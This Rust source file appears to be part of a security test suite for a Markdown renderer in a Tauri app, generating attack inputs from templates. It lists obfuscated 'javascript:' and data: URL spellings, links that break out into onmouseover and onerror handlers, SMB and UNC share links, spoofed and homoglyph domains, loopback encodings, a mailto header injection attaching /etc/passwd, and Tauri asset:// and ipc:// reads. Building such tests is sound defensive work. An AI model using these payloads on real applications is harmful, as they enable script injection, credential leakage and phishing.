//! Addresses that run script or lead elsewhere, in every spelling and in every place that Markdown has for one.

use super::payload::{Draft, html, text};

pub(super) fn all() -> Vec<Draft> {
    [
        text("script in an address", in_places(&SCRIPTS)),
        text("link that lies", LIES),
        html("address in HTML", in_html()),
    ]
    .concat()
}

/// `javascript:` and its like as browsers have read them, and as filters have missed them.
const SCRIPTS: [&str; 27] = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "JAVASCRIPT:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "javascript&#x3a;{js}",
    "&#106;avascript:{js}",
    "&#x6A&#x61vascript:{js}",
    "java&Tab;script:{js}",
    "java&NewLine;script:{js}",
    "java&#9;script:{js}",
    "java&#0;script:{js}",
    "&#1;javascript:{js}",
    "\u{1}javascript:{js}",
    "\u{a0}javascript:{js}",
    "java\u{ad}script:{js}",
    "javascript\u{200b}:{js}",
    "j\u{430}vascript:{js}",
    "javascript\u{ff1a}{js}",
    "javascript:%77indow.breached={n}",
    "javascript://{dns}/%0a{js}",
    "view-source:javascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>opener.breached={n}</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuYnJlYWNoZWQ9MTwvc2NyaXB0Pg==",
    "blob:tauri://localhost/{n}",
    "tauri://localhost/settings.html?{n}",
];

/// Each address as a link, in angle brackets, by reference, as an autolink and as a bare address.
fn in_places(addresses: &[&str]) -> Vec<String> {
    let each = |address: &&str| {
        [
            format!("[touch]({address})"),
            format!("[touch](<{address}> \"a title\")"),
            format!("[touch][there]\n\n[there]: {address} 'a title'"),
            format!("<{address}> and {address}"),
        ]
    };
    addresses.iter().flat_map(each).collect()
}

const LIES: [&str; 36] = [
    "[touch](http://{http}/{n}/link)",
    "[touch](http://{http}/{n}/link \"a title\" onmouseover={js})",
    "[touch](http://{http}/{n}/link '\"onmouseover={js} x=\"')",
    "[touch](http://{http}/{n}/\"onmouseover=\"{js})",
    "[touch](<http://{http}/{n}/' onmouseover='{js}>)",
    "[touch](<http://{http}/{n}/\"><img src=x onerror={js}>>)",
    "[touch](//{dns}/)",
    "[touch](\\\\{dns}\\share)",
    "[touch](file:////{dns}/share)",
    "[touch](smb://{dns}/share)",
    "[touch](http://paypal.example@{http}/{n})",
    "[https://bank.example](http://{http}/{n})",
    "<https://bank.example@{http}/{n}>",
    "[touch](http://b\u{e4}nk.{dns}/)",
    "[touch](http://\u{430}\u{440}\u{440}le.{dns}/)",
    "[touch](http://[::1]:80/{n})",
    "[touch](http://0x7f000001/{n})",
    "[touch](http://2130706433/{n})",
    "[touch](http://127.1/{n})",
    "[touch](http://localhost/{n})",
    "[touch](mailto:a@{dns}?subject=%0d%0aBcc:b@{dns}&attach=/etc/passwd)",
    "[touch](tel:+1{n})",
    "[touch](ms-settings:)",
    "[touch](x-apple.systempreferences:)",
    "[touch](settings.html)",
    "[touch](#main)",
    "[touch](?{n})",
    "[touch](about:blank)",
    "[touch](ipc://localhost/settings_state)",
    "[touch](asset://localhost/etc/passwd)",
    "[touch](http://tauri.localhost/settings.html)",
    "[touch](http://ipc.localhost/settings_state)",
    "[a [b](http://{http}/{n}/inner) c](http://{http}/{n}/outer)",
    "[touch][1] [touch][2]\n\n[1]: javascript:{js}\n[2]: http://{http}/{n}/second\n[1]: http://{http}/{n}/first",
    "www.{dns} and http://{http}/{n}/bare and someone@{dns}",
    "[**bold** `code` <b onclick={js}>b</b>](http://{http}/{n}/rich)",
];

/// The first of them in an HTML link.
fn in_html() -> Vec<String> {
    let spelled = SCRIPTS.iter().take(14);
    spelled
        .map(|address| format!("<a href=\"{address}\">touch</a>"))
        .collect()
}
